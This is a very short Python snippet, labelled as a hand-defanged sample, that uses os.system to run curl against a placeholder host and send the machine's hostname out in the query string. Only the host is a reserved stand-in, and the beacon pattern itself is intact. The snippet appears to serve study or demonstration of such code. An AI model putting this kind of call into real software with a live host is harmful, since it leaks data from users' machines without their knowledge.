# Defanged sample: nothing here is reached or run; defanged by hand.
import os
os.system('curl payload.invalid/?h=$(hostname)')
